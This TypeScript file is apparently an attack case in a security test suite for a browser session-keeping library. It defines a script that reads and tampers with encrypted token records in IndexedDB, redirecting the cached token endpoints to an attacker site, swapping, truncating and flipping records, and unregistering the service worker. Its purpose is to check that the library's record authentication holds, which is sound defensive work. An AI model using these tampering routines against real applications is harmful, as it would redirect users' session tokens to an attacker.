import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import { weakWorker } from '../weak/weak-workers.js';
import { dropHeaders } from '../weak/weaken.js';

export interface VaultRecord {
  readonly name: string;
  readonly jwe: string;
}

export interface VaultKit {
  read(): Promise<VaultRecord[]>;
  write(records: readonly VaultRecord[]): Promise<void>;
  clear(): Promise<void>;
}

/** Reading and writing the vault as any script of the origin can; part of the attacker's first script. */
export function installVaultKit(): void {
  const wait = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  const withStore = async <T>(work: (store: IDBObjectStore) => Promise<T>) => {
    const database = await wait(indexedDB.open('session-keeper'));
    const result = await work(database.transaction('records', 'readwrite').objectStore('records'));
    database.close();
    return result;
  };
  Object.assign(globalThis, {
    vaultKit: {
      read: () => withStore((store) => wait(store.getAll())),
      write: (records: readonly VaultRecord[]) =>
        withStore((store) => Promise.all(records.map((record) => wait(store.put(record))))),
      clear: () => withStore((store) => wait(store.clear())),
    },
  });
}

const SESSION = "globalThis[Symbol.for('session-keeper.session')]";

declare const vaultKit: VaultKit;

type Change = 'rewritten' | 'swapped' | 'elsewhere' | 'renamed' | 'cut' | 'flipped';

interface Tampering {
  readonly evil: string;
  readonly change: Change;
}

/** Changes the records in one way, and takes the worker away; where one can be read, it points the endpoints at the attacker. */
async function tamper({ evil, change }: Tampering): Promise<void> {
  const encode = (text: string) => btoa(text).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
  const decode = (text: string) => atob(text.replaceAll('-', '+').replaceAll('_', '/'));
  const records = await vaultKit.read();
  const session = records.find(({ name }) => name === 'session')?.jwe ?? '';
  const metadata = records.find(({ name }) => name === 'metadata')?.jwe ?? '';
  const endpoint = /"(token|revocation|pushed_authorization_request)_endpoint":"[^"]*"/g;
  const withParts = ({ name, jwe }: VaultRecord, alter: (parts: string[]) => void) => {
    const parts = jwe.split('.');
    alter(parts);
    return { name, jwe: parts.join('.') };
  };
  const changes: Record<Change, () => VaultRecord[]> = {
    rewritten: () =>
      records.map((record) =>
        withParts(record, (parts) => {
          parts[3] = encode(decode(parts[3] ?? '').replaceAll(endpoint, `"$1_endpoint":"${evil}/token"`));
        }),
      ),
    swapped: () => [
      { name: 'metadata', jwe: session },
      { name: 'session', jwe: metadata },
    ],
    elsewhere: () =>
      ['sign-in:attacker', 'end', 'revocation:attacker', 'end-session'].map((name) => ({
        name,
        jwe: session,
      })),
    renamed: () => [
      withParts({ name: 'metadata', jwe: session }, (parts) => {
        parts[0] = encode(decode(parts[0] ?? '').replace('"session"', '"metadata"'));
      }),
    ],
    cut: () => records.map(({ name, jwe }) => ({ name, jwe: jwe.slice(0, -20) })),
    flipped: () =>
      records.map(({ name, jwe }) => ({
        name,
        jwe: jwe.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A')),
      })),
  };
  await vaultKit.write(changes[change]());
  for (const registration of await navigator.serviceWorker.getRegistrations())
    await registration.unregister();
}

const CHANGES: readonly Change[] = ['rewritten', 'swapped', 'elsewhere', 'renamed', 'cut', 'flipped'];

async function tamperInEachWay(stage: Stage): Promise<void> {
  const records = await stage.run(() => vaultKit.read(), undefined);
  for (const change of CHANGES) {
    await stage.run(tamper, { evil: stage.evil.site, change });
    // A worker without its registration lives as long as its pages: the next one reads the vault.
    await stage.visit();
    await stage.tab.evaluate(`${SESSION}.renew().then(() => 0, (error) => attacker.take('error', error))`);
    await stage.run((before) => vaultKit.write(before), records);
  }
}

export const vaultRecords: Attack = {
  name: 'vault records',
  tries:
    'rewrites, swaps, cuts and copies the vault’s records, the cached token endpoint among them, and restarts the worker',
  threat: '5.1.2',
  defence: 'each record is authenticated with its name, by a key that no script has',
  before: installVaultKit,
  weakness: {
    without: "the seal and the worker's policy",
    deployment: { system: weakWorker('clear-vault') },
    weaken: (stage) =>
      stage.onAppRequest((req, res) => {
        if (req.url === '/service-worker.js') dropHeaders(res, ['content-security-policy']);
        return false;
      }),
  },
  run: tamperInEachWay,
};
